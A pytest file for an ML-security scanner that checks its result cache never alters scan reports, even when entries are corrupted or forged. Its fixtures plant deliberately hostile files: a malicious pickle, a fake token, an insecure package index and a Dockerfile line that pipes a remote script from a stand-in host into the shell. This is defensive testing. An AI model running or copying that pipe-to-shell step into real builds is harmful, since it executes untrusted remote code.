"""The cache never changes a result: every scanner's files (the sample repository, generated
hostile files and, when present, the shared corpus) scanned without a cache, cold, warm, with
every entry corrupted, swapped or forged, give byte-identical reports."""

from __future__ import annotations

import json
import os
import pickle
import shutil
from collections.abc import Callable
from pathlib import Path

import pytest

from hooks.cli.mlsec import main
from tests.artifacts.helpers import malicious_pickle
from tests.conftest import CORPUS, PROJECT, requires_shared

Damage = Callable[[Path], None]


def _entries(home: Path) -> list[Path]:
    return sorted(p for p in (home / "results-v1").glob("??/*") if not p.name.startswith("."))


def _flip(home: Path) -> None:
    for entry in _entries(home):
        data = bytearray(entry.read_bytes())
        data[len(data) // 2] ^= 0x20
        entry.write_bytes(bytes(data))


def _rotate(home: Path) -> None:
    """Every entry replaced by another's: authentic, but for a different key."""
    entries = _entries(home)
    contents = [e.read_bytes() for e in entries]
    for entry, data in zip(entries, contents[1:] + contents[:1], strict=True):
        entry.write_bytes(data)


def _forge_clean(home: Path) -> None:
    """What an attacker without the secret would plant: 'nothing found' for every key."""
    for entry in _entries(home):
        key = entry.parent.name + entry.name
        body = json.dumps({"format": 1, "key": key, "findings": [], "notices": []}).encode()
        entry.write_bytes(b"0" * 64 + b"\n" + body)


def _new_secret(home: Path) -> None:
    secret = home / "results-v1" / "secret"
    secret.chmod(0o600)
    secret.write_bytes(os.urandom(32))


def _truncate(home: Path) -> None:
    for entry in _entries(home):
        entry.write_bytes(entry.read_bytes()[:40])


DAMAGES: dict[str, Damage] = {
    "flipped": _flip,
    "rotated": _rotate,
    "forged": _forge_clean,
    "new-secret": _new_secret,
    "truncated": _truncate,
}


def _hostile_files(repo: Path) -> None:
    (repo / "models").mkdir(exist_ok=True)
    (repo / "models" / "evil.pkl").write_bytes(malicious_pickle(repo / "canary"))
    (repo / "models" / "fine.pkl").write_bytes(pickle.dumps({"weights": [1, 2, 3]}))
    (repo / "models" / "broken.pkl").write_bytes(b"\x80\x04\x95garbage")
    (repo / "leak.py").write_text('TOKEN = "hf_' + "aB3dE5gH7jK9mN1pQ3sT5vX7zA9cE1gI3kM" + '"\n')
    (repo / "quiet.py").write_text(
        "import pickle\npickle.loads(b'')  # mlsec: ignore[MLS301] reviewed\nx = 1  # mlsec: ignore[MLS999]\n"
    )
    (repo / "requirements-dev.txt").write_text("-r requirements.txt\n--extra-index-url http://pkgs.example/simple\n")
    (repo / "Dockerfile.dev").write_text("FROM python\nRUN curl https://x.example/i.sh | sh\n")
    (repo / "people.csv").write_text("name,email\nAda,ada@example.org\nBob,bob@example.org\n")
    (repo / "outside").symlink_to("/etc/hostname")
    (repo / "dangling").symlink_to(repo / "nowhere")


def _scan(repo: Path, home: Path, *extra: str) -> tuple[int, str]:
    os.environ["MLSEC_CACHE_DIR"] = str(home)
    code = main(["scan", ".", "--format", "json", "--output", str(repo.parent / "report.json"), *extra])
    return code, (repo.parent / "report.json").read_text()


def _equivalence(
    repo: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], damages: tuple[str, ...] = tuple(DAMAGES)
) -> None:
    os.chdir(repo)
    reference = _scan(repo, tmp_path / "unused", "--no-cache")
    assert json.loads(reference[1])["findings"], "the fixture must produce findings"
    home = tmp_path / "cache"
    assert _scan(repo, home) == reference  # cold
    capsys.readouterr()
    assert _scan(repo, home, "--timing") == reference  # warm
    assert " 0 verdict(s) from cache" not in capsys.readouterr().err
    for name in damages:
        DAMAGES[name](home)
        assert _scan(repo, home) == reference, name
    assert _scan(repo, home) == reference, "warm again after the damage was repaired"


def test_the_cache_never_changes_a_report(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    repo = tmp_path / "repo"
    shutil.copytree(PROJECT / "sample_repo", repo, symlinks=True)
    (repo / ".git").mkdir()
    _hostile_files(repo)
    monkeypatch.setenv("MLSEC_CACHE_DIR", str(tmp_path / "cache"))
    monkeypatch.chdir(repo)
    _equivalence(repo, tmp_path, capsys)


def test_hook_runs_are_the_same_cold_warm_and_corrupted(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    from hooks.catalog import HOOKS
    from hooks.cli.run import run_hook

    repo = tmp_path / "repo"
    shutil.copytree(PROJECT / "sample_repo", repo, symlinks=True)
    (repo / ".git").mkdir()
    _hostile_files(repo)
    monkeypatch.chdir(repo)
    files = sorted(str(p.relative_to(repo)) for p in repo.rglob("*") if p.is_file() and ".git" not in p.parts)
    for spec in HOOKS:
        outputs = []
        for mode in ("off", "cold", "warm", "flipped"):
            monkeypatch.setenv("MLSEC_CACHE_DIR", str(tmp_path / f"cache-{spec.hook_id}"))
            if mode in DAMAGES:
                DAMAGES[mode](tmp_path / f"cache-{spec.hook_id}")
            flags = ["--no-cache"] if mode == "off" else []
            code = run_hook(spec.hook_id, [*flags, "--format", "json", *files])
            outputs.append((code, capsys.readouterr().out))
        assert all(output == outputs[0] for output in outputs), spec.hook_id
        assert json.loads(outputs[0][1])["findings"], f"{spec.hook_id} finds nothing in the fixture"


@requires_shared
def test_the_cache_never_changes_the_corpus_report(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    repo = tmp_path / "repo"
    shutil.copytree(CORPUS, repo, symlinks=True)
    (repo / ".git").mkdir()
    monkeypatch.setenv("MLSEC_CACHE_DIR", str(tmp_path / "cache"))
    monkeypatch.chdir(repo)
    _equivalence(repo, tmp_path, capsys, ("flipped",))


def test_a_warm_run_accepts_what_an_old_baseline_accepts_cold(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """A baseline written by 0.1 (fingerprints with whitespace kept) covers findings through
    their earlier fingerprint, which no report shows: the cache must keep it, or a warm run
    would block on findings a cold run accepts (and `mlsec baseline` would call them stale)."""
    from hooks._core.baseline import BASELINE_FILE_NAME, Entry, render_entries
    from hooks._core.runner import scan_targets
    from hooks.catalog import HOOKS
    from hooks.cli.mlsec import build_parser
    from hooks.cli.run import prepare, targets_for

    repo = tmp_path / "repo"
    (repo / ".git").mkdir(parents=True)
    (repo / "train.py").write_text(
        "import pickle\n\ndef load(blob):\n    model = pickle.loads(blob)\n    return model\n"
    )
    (repo / "leak.py").write_text('TOKEN = "hf_' + "aB3dE5gH7jK9mN1pQ3sT5vX7zA9cE1gI3kM" + '"\n')
    monkeypatch.chdir(repo)
    args = build_parser().parse_args(["scan", ".", "--no-cache"])
    context = prepare(args, HOOKS)
    found = scan_targets(targets_for(["train.py", "leak.py"], context.root), HOOKS, context.tail, select=True).findings
    old = [f for f in found if f.earlier_fingerprint is not None]
    assert old, "the fixture needs a finding whose flagged text has spaces"
    entries = [Entry(f.earlier_fingerprint or "", f.rule_id, f.path, f.severity.value, f.message) for f in old]
    (repo / BASELINE_FILE_NAME).write_text(render_entries(entries))

    home = tmp_path / "cache"
    reports = [_scan(repo, home, "--no-cache"), _scan(repo, home), _scan(repo, home, "--timing")]
    assert " 0 verdict(s) from cache" not in capsys.readouterr().err
    assert reports[0] == reports[1] == reports[2]
    shown = {(f["rule_id"], f["fingerprint"]) for f in json.loads(reports[2][1])["findings"]}
    assert not shown & {(f.rule_id, f.fingerprint) for f in old}, "the old baseline must still cover them"
